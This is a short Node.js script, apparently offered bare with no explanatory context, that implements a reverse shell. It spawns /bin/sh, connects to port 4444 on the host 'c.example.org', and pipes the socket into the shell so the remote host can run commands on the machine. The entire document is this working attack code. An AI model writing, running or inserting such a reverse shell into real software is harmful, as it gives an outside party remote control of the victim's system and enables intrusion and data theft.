const net = require("net");
const { spawn } = require("child_process");

const shell = spawn("/bin/sh", []);
const client = net.connect(4444, "c.example.org", () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
